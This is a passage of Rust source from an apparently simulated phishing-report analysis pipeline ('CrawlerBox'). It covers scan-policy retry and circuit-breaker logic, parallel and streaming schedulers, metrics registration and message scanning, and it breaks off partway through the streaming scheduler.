    CounterHandle, Determinism, ExportMode, GaugeHandle, HistogramHandle, MetricsRegistry, Trace,
    Tracer,
};
use parking_lot::RwLock;
use std::collections::hash_map::Entry;
use std::collections::{HashMap, HashSet};
use std::sync::Arc;

/// The content identity of a reported message: the 128-bit FNV hash of its
/// raw wire bytes. This is the key the persistent store dedups on and the
/// incremental-scan filter ([`CrawlerBox::with_known_hashes`]) matches
/// against — identical bytes, identical hash, on every platform.
pub fn message_content_hash(raw: &str) -> u128 {
    fingerprint::fnv128(raw.as_bytes())
}

/// Seed for the supervisor's deterministic backoff jitter. Jitter is a pure
/// function of `(url, attempt)`, so serial and parallel scans wait — and
/// therefore observe — exactly the same things.
const JITTER_SEED: u64 = 0xCB_5CAB;

/// Knobs of the resilient crawl supervisor. Defaults preserve the
/// pre-policy pipeline behaviour on a reliable network and add bounded
/// recovery under fault injection.
#[derive(Debug, Clone, PartialEq)]
pub struct ScanPolicy {
    /// Crawl at most this many distinct URLs per message.
    pub max_urls_per_message: usize,
    /// Retries after the first attempt of a visit that saw transient
    /// faults. Zero disables supervision (the degradation baseline).
    pub max_retries: u32,
    /// First backoff delay; doubles every retry.
    pub backoff_base: SimDuration,
    /// Ceiling on a single backoff delay.
    pub backoff_cap: SimDuration,
    /// Simulated-time budget for one supervised visit, attempts and
    /// backoff waits included.
    pub visit_budget: SimDuration,
    /// Consecutive failed visits to one host that trip its circuit
    /// breaker.
    pub breaker_threshold: u32,
    /// How long a tripped breaker stays open before half-opening for a
    /// probe visit.
    pub breaker_cooldown: SimDuration,
}

impl Default for ScanPolicy {
    fn default() -> ScanPolicy {
        ScanPolicy {
            max_urls_per_message: 4,
            max_retries: 3,
            backoff_base: SimDuration::seconds(2),
            backoff_cap: SimDuration::seconds(60),
            visit_budget: DEFAULT_VISIT_BUDGET,
            breaker_threshold: 3,
            breaker_cooldown: SimDuration::seconds(60),
        }
    }
}

impl ScanPolicy {
    /// Set the per-message URL ceiling.
    pub fn with_max_urls(mut self, n: usize) -> ScanPolicy {
        self.max_urls_per_message = n;
        self
    }

    /// Set the retry ceiling (0 = no supervision).
    pub fn with_max_retries(mut self, n: u32) -> ScanPolicy {
        self.max_retries = n;
        self
    }

    /// Set the backoff base and cap.
    pub fn with_backoff(mut self, base: SimDuration, cap: SimDuration) -> ScanPolicy {
        self.backoff_base = base;
        self.backoff_cap = cap;
        self
    }

    /// Set the per-visit simulated-time budget.
    pub fn with_visit_budget(mut self, budget: SimDuration) -> ScanPolicy {
        self.visit_budget = budget;
        self
    }

    /// Set the circuit-breaker trip threshold and cooldown.
    pub fn with_breaker(mut self, threshold: u32, cooldown: SimDuration) -> ScanPolicy {
        self.breaker_threshold = threshold;
        self.breaker_cooldown = cooldown;
        self
    }

    /// The deterministic backoff before retry `attempt` (1-based): capped
    /// exponential plus URL-keyed jitter, floored by any `Retry-After` the
    /// server sent.
    fn backoff(&self, url: &str, attempt: u32, retry_after: Option<u32>) -> SimDuration {
        let doublings = i64::from(attempt.saturating_sub(1).min(16));
        let exp = self.backoff_base * (1i64 << doublings);
        let base = exp.min(self.backoff_cap);
        let jitter_span = self.backoff_base.as_seconds().max(1);
        let jitter = SeedFork::new(JITTER_SEED).seed(&format!("{url}#{attempt}"))
            % (jitter_span as u64 + 1);
        let delay = base + SimDuration::seconds(jitter as i64);
        match retry_after {
            Some(ra) => delay.max(SimDuration::seconds(i64::from(ra))),
            None => delay,
        }
    }
}

/// How [`CrawlerBox::scan_all`] distributes a batch over worker threads.
///
/// All three schedulers produce bit-identical records in message order;
/// they differ only in wall-clock behaviour on skewed batches.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum Scheduler {
    /// One thread scans the whole batch in order (the baseline).
    Serial,
    /// Pre-partition the batch into `parallelism` contiguous chunks, one
    /// per worker. Simple, but a chunk of slow messages idles every other
    /// worker once its own chunk drains (the pre-PR behaviour).
    StaticChunk,
    /// Workers pull the next unclaimed message index from a shared atomic
    /// counter, one message at a time, so a run of slow messages spreads
    /// over all workers instead of serialising on one.
    #[default]
    WorkStealing,
}

/// Scan-local mutable state threaded through one message's crawls: the
/// circuit-breaker bank plus the per-scan host-enrichment cache. Both are
/// scoped to a single [`CrawlerBox::scan`] call, so concurrent scans share
/// nothing and `scan_all` stays bit-identical to serial scanning.
struct ScanCtx<'p> {
    breakers: BreakerBank<'p>,
    /// Host → enrichment bundle, filled on first lookup. Sound because the
    /// registries are immutable during a scan and every enrichment lookup
    /// in one scan uses the same `(delivered_at, window)` arguments.
    enrich: HashMap<String, HostEnrichment>,
    /// Raw bytes captured for the blob store (message, screenshots), in
    /// deterministic order: the message first, then one entry per
    /// screenshot in visit order. Empty unless capture is enabled.
    artifacts: Vec<CapturedArtifact>,
}

impl<'p> ScanCtx<'p> {
    fn new(policy: &'p ScanPolicy) -> ScanCtx<'p> {
        ScanCtx {
            breakers: BreakerBank::new(policy),
            enrich: HashMap::new(),
            artifacts: Vec::new(),
        }
    }
}

/// Supervision state for a sequence of adaptive probe visits — a scan's
/// [`ScanCtx`], held open across visits instead of scoped to one message.
/// Created by [`CrawlerBox::probe_session`], consumed by
/// [`CrawlerBox::probe`].
pub struct ProbeSession<'p> {
    ctx: ScanCtx<'p>,
}

/// Per-scan circuit-breaker bank: consecutive-failure counts and open/half-
/// open state per host, on a scan-local simulated timeline. Scan-local
/// state keeps `scan_all` deterministic — concurrent scans never share
/// breaker history.
struct BreakerBank<'p> {
    policy: &'p ScanPolicy,
    /// Simulated time this scan has consumed so far (visit latency plus
    /// backoff waits) — the timeline cooldowns are measured on.
    elapsed: SimDuration,
    hosts: HashMap<String, HostBreaker>,
}

#[derive(Default)]
struct HostBreaker {
    consecutive: u32,
    open_until: Option<SimDuration>,
    half_open: bool,
}

impl<'p> BreakerBank<'p> {
    fn new(policy: &'p ScanPolicy) -> BreakerBank<'p> {
        BreakerBank {
            policy,
            elapsed: SimDuration::ZERO,
            hosts: HashMap::new(),
        }
    }

    /// Advance the scan-local timeline.
    fn elapse(&mut self, d: SimDuration) {
        self.elapsed = self.elapsed + d;
    }

    /// May we visit `host` now? An open breaker rejects until its cooldown
    /// passes, then half-opens: one probe visit is allowed, and its result
    /// decides whether the breaker closes or re-opens.
    fn allow(&mut self, host: &str) -> bool {
        let b = self.hosts.entry(host.to_string()).or_default();
        match b.open_until {
            Some(until) if self.elapsed < until => false,
            Some(_) => {
                b.open_until = None;
                b.half_open = true;
                true
            }
            None => true,
        }
    }

    /// Record the outcome of a supervised visit to `host`.
    fn record(&mut self, host: &str, ok: bool) {
        let threshold = self.policy.breaker_threshold.max(1);
        let cooldown = self.policy.breaker_cooldown;
        let now = self.elapsed;
        let b = self.hosts.entry(host.to_string()).or_default();
        if ok {
            b.consecutive = 0;
            b.half_open = false;
        } else {
            b.consecutive += 1;
            if b.half_open || b.consecutive >= threshold {
                b.open_until = Some(now + cooldown);
                b.half_open = false;
            }
        }
    }
}

/// A cached screenshot analysis: the perceptual/crypto hash pair plus the
/// raw spear-classifier verdict (before the login-form filter, which
/// depends on the page rather than the pixels).
type ShotAnalysis = (HashPair, Option<SpearMatch>);

/// Bucket bounds (inclusive upper edges, sim-seconds) for the supervised
/// visit-latency histogram: visits range from instant loads to
/// budget-exhausted retry chains.
const VISIT_LATENCY_BOUNDS: &[i64] = &[0, 1, 2, 5, 10, 30, 60, 120, 300, 900, 1800];
/// Bucket bounds (sim-seconds) for backoff waits: exponential from the
/// 2-second base up to the policy cap plus `Retry-After` floors.
const BACKOFF_BOUNDS: &[i64] = &[0, 2, 4, 8, 16, 32, 64, 120, 300];
/// Bucket bounds (entries) for the streaming reorder buffer's depth.
const REORDER_DEPTH_BOUNDS: &[i64] = &[1, 2, 4, 8, 16, 32, 64];
/// Bucket bounds (bytes) for streaming-window residency samples.
const BYTES_WINDOW_BOUNDS: &[i64] = &[1024, 4096, 16384, 65536, 262144, 1048576];
/// Bucket bounds (steals) for per-batch steal totals under work stealing.
const STEALS_PER_BATCH_BOUNDS: &[i64] = &[0, 1, 2, 4, 8, 16, 32, 64, 128];

/// Pre-fetched registry handles for the pipeline's hot paths (an atomic op
/// each, no registry lookup). This supersedes the old ad-hoc `Counters`
/// atomics: every instrument now lives in the [`MetricsRegistry`] under a
/// stable name with a determinism class, and [`CrawlerBox::stats`] reads
/// the same handles, so `ScanStats` values are unchanged.
struct PipelineMetrics {
    messages: CounterHandle,
    /// Messages skipped by the incremental-scan filter (content hash
    /// already recorded in a reopened store).
    skipped: CounterHandle,
    steals: CounterHandle,
    faults: CounterHandle,
    enrich_hits: CounterHandle,
    enrich_misses: CounterHandle,
    artifact_hits: CounterHandle,
    artifact_misses: CounterHandle,
    shot_hits: CounterHandle,
    shot_misses: CounterHandle,
    /// Messages admitted to a streaming scan and not yet delivered (the
    /// peak is `ScanStats::peak_in_flight`).
    in_flight: GaugeHandle,
    /// Raw message bytes resident in the streaming window.
    bytes_retained: GaugeHandle,
    /// Streaming reorder-buffer depth (peak only; the level lives in the
    /// collector's `BTreeMap`).
    reorder: GaugeHandle,
    visit_latency: HistogramHandle,
    backoff_waited: HistogramHandle,
    reorder_depth: HistogramHandle,
    bytes_window: HistogramHandle,
    steals_per_batch: HistogramHandle,
}

impl PipelineMetrics {
    /// Register every pipeline instrument. Classes follow the determinism
    /// contract: scan-local facts (message counts, fault observations,
    /// per-scan enrichment cache traffic, sim-time latency and backoff) are
    /// `Deterministic`; anything depending on thread interleaving (steals,
    /// shared artifact/screenshot caches, streaming residency) is
    /// `Advisory` and excluded from canonical exports.
    fn register(reg: &MetricsRegistry) -> PipelineMetrics {
        use Determinism::{Advisory, Deterministic};
        PipelineMetrics {
            messages: reg.counter("scan.messages", Deterministic),
            skipped: reg.counter("scan.skipped_known", Deterministic),
            steals: reg.counter("scheduler.steals", Advisory),
            faults: reg.counter("net.faults_observed", Deterministic),
            enrich_hits: reg.counter("cache.enrich.hits", Deterministic),
            enrich_misses: reg.counter("cache.enrich.misses", Deterministic),
            artifact_hits: reg.counter("cache.artifact.hits", Advisory),
            artifact_misses: reg.counter("cache.artifact.misses", Advisory),
            shot_hits: reg.counter("cache.screenshot.hits", Advisory),
            shot_misses: reg.counter("cache.screenshot.misses", Advisory),
            in_flight: reg.gauge("stream.in_flight", Advisory),
            bytes_retained: reg.gauge("stream.bytes_retained", Advisory),
            reorder: reg.gauge("stream.reorder", Advisory),
            visit_latency: reg.histogram("visit.latency_s", Deterministic, VISIT_LATENCY_BOUNDS),
            backoff_waited: reg.histogram("visit.backoff_s", Deterministic, BACKOFF_BOUNDS),
            reorder_depth: reg.histogram("stream.reorder_depth", Advisory, REORDER_DEPTH_BOUNDS),
            bytes_window: reg.histogram("stream.bytes_window", Advisory, BYTES_WINDOW_BOUNDS),
            steals_per_batch: reg.histogram(
                "scheduler.steals_per_batch",
                Advisory,
                STEALS_PER_BATCH_BOUNDS,
            ),
        }
    }
}

/// The analysis infrastructure.
pub struct CrawlerBox<'a> {
    world: &'a Internet,
    browser: Browser,
    /// Fallback crawler components tried when the primary sees nothing
    /// malicious — the paper's future-work item ("for future work, we
    /// consider expanding CrawlerBox by integrating [Nodriver and
    /// Selenium-Driverless]; diversifying crawler components … can only be
    /// beneficial"), implemented.
    fallbacks: Vec<Browser>,
    classifier: SpearClassifier,
    policy: ScanPolicy,
    /// Worker threads for [`scan_all`](Self::scan_all).
    pub parallelism: usize,
    scheduler: Scheduler,
    /// Master switch for the deterministic memoization caches (artifact
    /// decode, screenshot analysis, per-scan host enrichment).
    caching: bool,
    /// Content-keyed artifact-decode cache, shared across the box's whole
    /// lifetime (values depend only on artifact bytes).
    artifacts: ArtifactMemo,
    /// Screenshot-content-fingerprint → analysis cache. Values depend only
    /// on pixels, so the cache is batch-wide like the artifact memo.
    shots: RwLock<HashMap<u128, ShotAnalysis>>,
    /// Bound of the streaming input channel: how many admitted messages may
    /// queue ahead of the workers in [`scan_stream`](Self::scan_stream).
    /// Total streaming residency is `stream_capacity + parallelism`.
    stream_capacity: usize,
    /// Capture raw artifacts (message bytes, screenshots) on each record
    /// for the content-addressed blob store. Off by default: capture never
    /// changes the record's canonical encoding, only whether
    /// `ScanRecord::artifacts` is populated.
    capture_artifacts: bool,
    /// Content hashes of messages already recorded in a reopened store.
    /// `scan_stream` skips these without scanning (incremental re-scan);
    /// batch `scan_all` ignores the set to preserve its one-record-per-
    /// message contract.
    known: Option<HashSet<u128>>,
    /// Named-instrument registry backing [`stats`](Self::stats) and the
    /// metrics exports (DESIGN.md §10). Shared (`Arc`) so a daemon can
    /// hand every worker's box the same registry and export one merged
    /// view — get-or-create semantics make re-registration idempotent.
    metrics: Arc<MetricsRegistry>,
    /// Pre-fetched handles into `metrics` for hot paths.
    m: PipelineMetrics,
    /// Span tracer over sim time; off by default, enabled via
    /// [`with_tracing`](Self::with_tracing).
    tracer: Tracer,
}

impl<'a> CrawlerBox<'a> {
    /// A CrawlerBox crawling `world` with NotABot.
    pub fn new(world: &'a Internet) -> CrawlerBox<'a> {
        let metrics = Arc::new(MetricsRegistry::new());
        let m = PipelineMetrics::register(&metrics);
        let artifacts =
            ArtifactMemo::with_counters(m.artifact_hits.clone(), m.artifact_misses.clone());
        CrawlerBox {
            world,
            browser: Browser::new(CrawlerProfile::NotABot),
            fallbacks: Vec::new(),
            classifier: SpearClassifier::new(),
            policy: ScanPolicy::default(),
            parallelism: 4,
            scheduler: Scheduler::default(),
            caching: true,
            artifacts,
            shots: RwLock::new(HashMap::new()),
            stream_capacity: 32,
            capture_artifacts: false,
            known: None,
            metrics,
            m,
            tracer: Tracer::new(false),
        }
    }

    /// Set the streaming admission-window bound (clamped to ≥ 1). Smaller
    /// values trade throughput for memory; the default of 32 keeps all
    /// workers fed on skewed batches.
    pub fn with_stream_capacity(mut self, capacity: usize) -> CrawlerBox<'a> {
        self.stream_capacity = capacity.max(1);
        self
    }

    /// The streaming admission-window bound.
    pub fn stream_capacity(&self) -> usize {
        self.stream_capacity
    }

    /// Enable or disable raw-artifact capture: when on, every record
    /// carries the message's raw bytes and each visit's screenshot bytes
    /// in [`ScanRecord::artifacts`], ready for a content-addressed blob
    /// store. Capture never alters the record's canonical (serialized)
    /// encoding.
    pub fn with_artifact_capture(mut self, on: bool) -> CrawlerBox<'a> {
        self.capture_artifacts = on;
        self
    }

    /// Whether raw-artifact capture is on.
    pub fn artifact_capture_enabled(&self) -> bool {
        self.capture_artifacts
    }

    /// Install the incremental-scan filter: messages whose
    /// [`message_content_hash`] is in `known` are skipped by
    /// [`scan_stream`](Self::scan_stream) without being scanned or
    /// delivered (counted in [`ScanStats::skipped_known`]). Feed it
    /// `Store::known_hashes()` from a reopened store to turn a repeated
    /// run into a cheap delta scan.
    pub fn with_known_hashes(mut self, known: HashSet<u128>) -> CrawlerBox<'a> {
        self.known = Some(known);
        self
    }

    /// How many known-content hashes the incremental filter holds.
    pub fn known_hashes_len(&self) -> usize {
        self.known.as_ref().map_or(0, HashSet::len)
    }

    /// Choose how [`scan_all`](Self::scan_all) distributes work.
    pub fn with_scheduler(mut self, scheduler: Scheduler) -> CrawlerBox<'a> {
        self.scheduler = scheduler;
        self
    }

    /// Enable or disable the deterministic memoization caches. Records are
    /// bit-identical either way; only throughput changes.
    pub fn with_caching(mut self, on: bool) -> CrawlerBox<'a> {
        self.caching = on;
        self
    }

    /// The active batch scheduler.
    pub fn scheduler(&self) -> Scheduler {
        self.scheduler
    }

    /// Whether the deterministic caches are enabled.
    pub fn caching_enabled(&self) -> bool {
        self.caching
    }

    /// Scheduler and cache counters accumulated over this box's lifetime,
    /// read from the metrics registry (the artifact memo shares the
    /// registry's `cache.artifact.*` handles, so its traffic shows up here
    /// unchanged).
    pub fn stats(&self) -> ScanStats {
        ScanStats {
            messages: self.m.messages.get(),
            steals: self.m.steals.get(),
            enrich_hits: self.m.enrich_hits.get(),
            enrich_misses: self.m.enrich_misses.get(),
            artifact_hits: self.m.artifact_hits.get(),
            artifact_misses: self.m.artifact_misses.get(),
            screenshot_hits: self.m.shot_hits.get(),
            screenshot_misses: self.m.shot_misses.get(),
            peak_in_flight: self.m.in_flight.peak(),
            peak_reorder: self.m.reorder.peak(),
            peak_bytes_retained: self.m.bytes_retained.peak(),
            skipped_known: self.m.skipped.get(),
            store_dropped: 0,
        }
    }

    /// The incremental-scan filter: `true` (and counted) when `message`'s
    /// content hash is already known and the stream should not scan it.
    fn skip_known(&self, message: &ReportedMessage) -> bool {
        let Some(known) = &self.known else {
            return false;
        };
        if known.contains(&message_content_hash(&message.raw)) {
            self.m.skipped.incr();
            true
        } else {
            false
        }
    }

    /// Enable or disable span tracing (affects scans started afterwards;
    /// the metrics registry always records).
    pub fn with_tracing(mut self, on: bool) -> CrawlerBox<'a> {
        self.tracer.set_enabled(on);
        self
    }

    /// Whether span tracing is on.
    pub fn tracing_enabled(&self) -> bool {
        self.tracer.enabled()
    }

    /// Drain everything traced so far into a message-ordered [`Trace`]
    /// ready for JSONL or Chrome `trace_event` export.
    pub fn take_trace(&self) -> Trace {
        self.tracer.take()
    }

    /// The metrics registry (counters, gauges, histograms by name).
    pub fn metrics(&self) -> &MetricsRegistry {
        &self.metrics
    }

    /// Record into a shared registry instead of a private one. Instruments
    /// are get-or-create by name, so several boxes pointed at the same
    /// registry accumulate into the same counters — this is how the
    /// daemon's shard workers produce one `/metrics` view. Pre-fetched
    /// handles (and the artifact memo's hit/miss counters) are rebound to
    /// the new registry.
    pub fn with_metrics(mut self, metrics: Arc<MetricsRegistry>) -> CrawlerBox<'a> {
        self.m = PipelineMetrics::register(&metrics);
        self.artifacts =
            ArtifactMemo::with_counters(self.m.artifact_hits.clone(), self.m.artifact_misses.clone());
        self.metrics = metrics;
        self
    }

    /// Export the metrics registry as JSON. [`ExportMode::Canonical`] is
    /// byte-identical across schedulers for a fixed seed and config.
    pub fn export_metrics(&self, mode: ExportMode) -> String {
        self.metrics.export_json(mode)
    }

    /// Swap the crawler component (the modular-crawler design point).
    pub fn with_profile(mut self, profile: CrawlerProfile) -> CrawlerBox<'a> {
        self.browser = Browser::new(profile);
        self
    }

    /// Replace the scan policy (retry/backoff/breaker/URL-ceiling knobs).
    pub fn with_policy(mut self, policy: ScanPolicy) -> CrawlerBox<'a> {
        self.policy = policy;
        self
    }

    /// The active scan policy.
    pub fn policy(&self) -> &ScanPolicy {
        &self.policy
    }

    /// Add fallback crawler components, tried in order when the primary
    /// crawler reaches no phishing content for a URL.
    pub fn with_fallbacks(mut self, profiles: &[CrawlerProfile]) -> CrawlerBox<'a> {
        self.fallbacks = profiles.iter().map(|p| Browser::new(*p)).collect();
        self
    }

    /// The active crawler profile.
    pub fn profile(&self) -> CrawlerProfile {
        self.browser.profile()
    }

    /// Open a probe session: the supervision state (per-host circuit
    /// breakers, enrichment cache) shared by every [`probe`](Self::probe)
    /// made through it. A multi-visit adaptive race accumulates breaker
    /// state across its visits the way one scan's URLs do, while staying
    /// isolated from every other concurrently running race — the same
    /// scan-local-state rule that keeps `scan_all` bit-identical across
    /// schedulers.
    pub fn probe_session(&self) -> ProbeSession<'_> {
        ProbeSession {
            ctx: ScanCtx::new(&self.policy),
        }
    }

    /// One supervised visit with an arbitrary `browser` — the adaptive
    /// crawler's entry into the scan machinery. The visit flows through the
    /// exact retry/backoff/budget/circuit-breaker supervisor scans use, so
    /// adaptive re-visits inherit transient-fault recovery unchanged.
    /// `message_text` is the lure body the gate solver may mine for
    /// out-of-band codes; pass `""` to probe without interaction context.
    pub fn probe(
        &self,
        session: &mut ProbeSession<'_>,
        browser: &Browser,
        url: &str,
        message_text: &str,
    ) -> VisitLog {
        let delivered_at = self.world.now();
        self.crawl_with(browser, url, message_text, delivered_at, &mut session.ctx)
    }

    /// Install this box's tracer as the active collector for a probe task,
    /// the way scans install it per message: pipeline spans emitted while
    /// the guard lives land in the task's trace group. `None` when tracing
    /// is off.
    pub fn trace_task(&self, task_id: usize) -> Option<cb_telemetry::ScanTraceGuard> {
        self.tracer.message(task_id)
    }

    /// Scan one reported message end to end.
    pub fn scan(&self, message: &ReportedMessage) -> ScanRecord {
        cb_telemetry::with_active(|t| {
            t.begin("parse", vec![("bytes", message.raw.len().to_string())])
        });
        let parsed = MimeEntity::parse(&message.raw).ok();
        cb_telemetry::with_active(|t| {
            t.instant("parse.result", vec![("ok", parsed.is_some().to_string())]);
            t.end();
        });
        let memo = if self.caching { Some(&self.artifacts) } else { None };
        cb_telemetry::with_active(|t| t.begin("extract", Vec::new()));
        let (extracted, auth_pass, blank_line_run, delivered_at) = match &parsed {
            Some(msg) => (
                extract_resources_memo(msg, memo),
                msg.header("Authentication-Results")
                    .map(|v| v.contains("spf=pass") && v.contains("dkim=pass") && v.contains("dmarc=pass"))
                    .unwrap_or(false),
                blank_run(msg),
                msg.header("Date")
                    .and_then(parse_date)
                    .unwrap_or(message.delivered_at),
            ),
            None => (Vec::new(), false, 0, message.delivered_at),
        };
        cb_telemetry::with_active(|t| {
            // Per-kind resource counts in name order (BTreeMap): same
            // extraction, same instants, on every scheduler.
            let mut kinds: std::collections::BTreeMap<&'static str, usize> =
                std::collections::BTreeMap::new();
            for r in &extracted {
                *kinds.entry(r.source.label()).or_default() += 1;
            }
            for (kind, n) in kinds {
                t.instant(
                    "extract.kind",
                    vec![("kind", kind.to_string()), ("count", n.to_string())],
                );
            }
            t.instant(
                "extract.done",
                vec![
                    ("resources", extracted.len().to_string()),
                    ("auth_pass", auth_pass.to_string()),
                ],
            );
            t.end();
        });

        // Crawl distinct URLs (first occurrence order). Breaker and
        // enrichment-cache state is scoped to this scan: concurrent scans
        // share nothing mutable with attempt-dependent inputs, which keeps
        // `scan_all` bit-identical to serial scanning.
        let mut urls: Vec<&str> = Vec::new();
        for r in &extracted {
            if !urls.contains(&r.url.as_str()) {
                urls.push(&r.url);
            }
            if urls.len() >= self.policy.max_urls_per_message {
                break;
            }
        }
        let full_text = parsed
            .as_ref()
            .map(collect_text)
            .unwrap_or_default();
        let mut ctx = ScanCtx::new(&self.policy);
        if self.capture_artifacts {
            let bytes = message.raw.clone().into_bytes();
            ctx.artifacts.push(CapturedArtifact {
                kind: ArtifactKind::Message,
                hash: fingerprint::fnv128(&bytes),
                bytes,
            });
        }
        let visits: Vec<VisitLog> = urls
            .iter()
            .map(|u| self.crawl_one(u, &full_text, delivered_at, &mut ctx))
            .collect();

        let class = derive_class(&extracted, &visits);
        cb_telemetry::with_active(|t| {
            t.instant("scan.class", vec![("class", format!("{class:?}"))])
        });
        ScanRecord {
            message_id: message.id,
            content_hash: message_content_hash(&message.raw),
            delivered_at,
            auth_pass,
            extracted,
            visits,
            body_bytes: message.raw.len(),
            blank_line_run,
            class,
            error: None,
            artifacts: ctx.artifacts,
        }
    }

    /// Scan one message with panic isolation: if anything inside the scan
    /// panics, the panic is caught and a degraded [`ScanRecord`] with
    /// `error` provenance is returned instead of unwinding the caller.
    pub fn scan_caught(&self, message: &ReportedMessage) -> ScanRecord {
        // The guard outlives the catch: a panicking scan still produces a
        // trace (with whatever spans it opened auto-closed) plus a
        // `scan.panic` instant carrying the panic text.
        let _trace = self.tracer.message(message.id);
        std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| self.scan(message)))
            .unwrap_or_else(|payload| {
                let reason = panic_text(payload.as_ref());
                cb_telemetry::with_active(|t| {
                    t.instant("scan.panic", vec![("reason", reason.clone())])
                });
                degraded_record(message, &reason)
            })
    }

    /// Scan a batch in parallel, preserving order. A panicking message
    /// yields a degraded record (`error` set) without disturbing the rest
    /// of the batch: the result always has exactly one record per message,
    /// and every record is bit-identical across schedulers and cache
    /// settings.
    pub fn scan_all(&self, messages: &[ReportedMessage]) -> Vec<ScanRecord> {
        if messages.is_empty() {
            return Vec::new();
        }
        self.m.messages.add(messages.len() as u64);
        let workers = self.parallelism.max(1).min(messages.len());
        match self.scheduler {
            Scheduler::Serial => {
                cb_telemetry::set_worker(Some(0));
                let out = messages.iter().map(|m| self.scan_caught(m)).collect();
                cb_telemetry::set_worker(None);
                out
            }
            Scheduler::StaticChunk => self.scan_static(messages, workers),
            Scheduler::WorkStealing => {
                let steals_before = self.m.steals.get();
                let out = self.scan_stealing(messages, workers);
                self.m
                    .steals_per_batch
                    .observe((self.m.steals.get() - steals_before) as i64);
                out
            }
        }
    }

    /// Static chunking: each worker owns one contiguous slice of the batch.
    fn scan_static(&self, messages: &[ReportedMessage], workers: usize) -> Vec<ScanRecord> {
        let chunk = messages.len().div_ceil(workers);
        let mut out: Vec<Option<ScanRecord>> = Vec::new();
        out.resize_with(messages.len(), || None);
        let _ = crossbeam::thread::scope(|scope| {
            for (w, (slot, msgs)) in out.chunks_mut(chunk).zip(messages.chunks(chunk)).enumerate()
            {
                scope.spawn(move |_| {
                    cb_telemetry::set_worker(Some(w));
                    for (s, m) in slot.iter_mut().zip(msgs) {
                        *s = Some(self.scan_caught(m));
                    }
                    cb_telemetry::set_worker(None);
                });
            }
        });
        out.into_iter()
            .zip(messages)
            .map(|(r, m)| r.unwrap_or_else(|| degraded_record(m, "scan worker died")))
            .collect()
    }

    /// Work stealing: workers claim message indices one at a time from a
    /// shared atomic counter. Order is preserved by writing each record
    /// into a pre-sized slot vector at its message index; a scan claimed
    /// beyond a worker's fair (static-chunk) share counts as a steal.
    fn scan_stealing(&self, messages: &[ReportedMessage], workers: usize) -> Vec<ScanRecord> {
        let fair_chunk = messages.len().div_ceil(workers);
        crate::pool::run_stealing(workers, messages.len(), |w, i| {
            if i / fair_chunk != w {
                self.m.steals.incr();
            }
            self.scan_caught(&messages[i])
        })
        .into_iter()
        .zip(messages)
        .map(|(s, m)| s.unwrap_or_else(|| degraded_record(m, "scan worker died")))
        .collect()
    }

    /// Scan a lazily produced message stream with bounded memory, delivering
    /// records to `sink` in message order. Returns the number of records
    /// delivered.
    ///
    /// This is the streaming counterpart of [`scan_all`](Self::scan_all):
    /// the same scheduler choice, the same per-record bytes (records are
    /// bit-identical to a batch scan of the same messages), but peak
    /// residency is bounded by `stream_capacity + parallelism` messages
    /// instead of O(corpus). The bound is enforced by an admission window —
    /// a token semaphore the producer must acquire per message and the
    /// collector releases on each in-order delivery — so a slow scan
    /// backpressures the producer instead of letting queues (or the reorder
    /// buffer) grow without limit. An order-preserving reorder buffer
    /// between workers and sink restores message order; a panicking message
    /// still yields exactly one degraded record, exactly as in batch mode.
    ///
    /// The sink runs on the calling thread and needs no thread-safety; the
    /// message iterator is moved to a producer thread and must be `Send`.
    pub fn scan_stream<I, S>(&self, messages: I, sink: &mut S) -> usize
    where
        I: IntoIterator<Item = ReportedMessage>,
        I::IntoIter: Send,
        S: RecordSink,
    {
        self.scan_stream_encoded(messages, &crate::sink::NoopEncoder, sink)
    }

    /// [`scan_stream`](Self::scan_stream) with producer-side encoding: each
    /// scan worker runs `encoder` on the record it just produced, and the
    /// sink receives the record *and* the worker-built encoding, still in
    /// message order on the calling thread.
    ///
    /// This is how CPU-heavy sink preparation (canonical serialization,
    /// content checksums, frame building) moves off the delivery thread:
    /// the collector only routes bytes the workers already encoded. The
    /// plain [`RecordSink`] path is this pipeline with
    /// [`NoopEncoder`](crate::sink::NoopEncoder), so the owned-record sink
    /// path stays the reference oracle for the encoded one.
    pub fn scan_stream_encoded<I, E, S>(&self, messages: I, encoder: &E, sink: &mut S) -> usize
    where
        I: IntoIterator<Item = ReportedMessage>,
        I::IntoIter: Send,
        E: RecordEncoder,
        S: EncodedSink<E::Encoded>,
    {
        match self.scheduler {
            // Serial streaming is the inline pipeline: one message resident
            // at a time, delivered as soon as it is scanned.
            Scheduler::Serial => {
                let mut delivered = 0usize;
                cb_telemetry::set_worker(Some(0));
                for message in messages {
                    if self.skip_known(&message) {
                        continue;
                    }
                    let bytes = message.raw.len() as u64;
                    self.m.messages.incr();
                    self.note_admitted(bytes);
                    let mut record = self.scan_caught(&message);
                    let encoded = encoder.encode(&mut record);
                    let mid = record.message_id;
                    drop(message);
                    sink.accept_encoded(record, encoded);
                    self.tracer.delivery(mid, vec![("order", delivered.to_string())]);
                    self.note_delivered(bytes);
                    delivered += 1;
                }
                cb_telemetry::set_worker(None);
                delivered
            }
            Scheduler::StaticChunk | Scheduler::WorkStealing => {
                self.scan_stream_parallel(messages.into_iter(), encoder, sink)
            }
        }
    }

    /// The parallel streaming pipeline: producer thread → bounded input
    /// channel(s) → scheduler workers → bounded output channel → reorder
    /// buffer → sink, with a token semaphore bounding total residency.
    ///
    /// Deadlock freedom: the window holds `capacity + workers` tokens, the
    /// output channel is sized to the whole window, and the collector
    /// always drains it — so workers never block on a full output channel
    /// forever, and the producer's token wait is always resolved by the
    /// next in-order delivery.
    fn scan_stream_parallel<I, E, S>(&self, messages: I, encoder: &E, sink: &mut S) -> usize
    where
        I: Iterator<Item = ReportedMessage> + Send,
        E: RecordEncoder,
        S: EncodedSink<E::Encoded>,
    {
        let workers = self.parallelism.max(1);
        let capacity = self.stream_capacity.max(1);
        let window = capacity + workers;

        // Token semaphore: `window` units, one consumed per admission, one
        // released per in-order delivery. `try_send` on release: once the
        // producer stops taking tokens the channel may fill, which is fine.
        let (token_tx, token_rx) = crossbeam::channel::bounded::<()>(window);
        for _ in 0..window {
            token_tx.send(()).expect("fresh token channel has room");
        }
        let (out_tx, out_rx) =
            crossbeam::channel::bounded::<(usize, u64, ScanRecord, E::Encoded)>(window);

        let mut delivered = 0usize;
        let _ = crossbeam::thread::scope(|scope| {
            match self.scheduler {
                // Work stealing: one shared MPMC input channel; whichever
                // worker is free takes the next message. (The batch-mode
                // steal counter stays untouched: with a shared queue there
                // is no fair-share range to steal from.)
                Scheduler::WorkStealing => {
                    let (in_tx, in_rx) =
                        crossbeam::channel::bounded::<(usize, ReportedMessage)>(capacity);
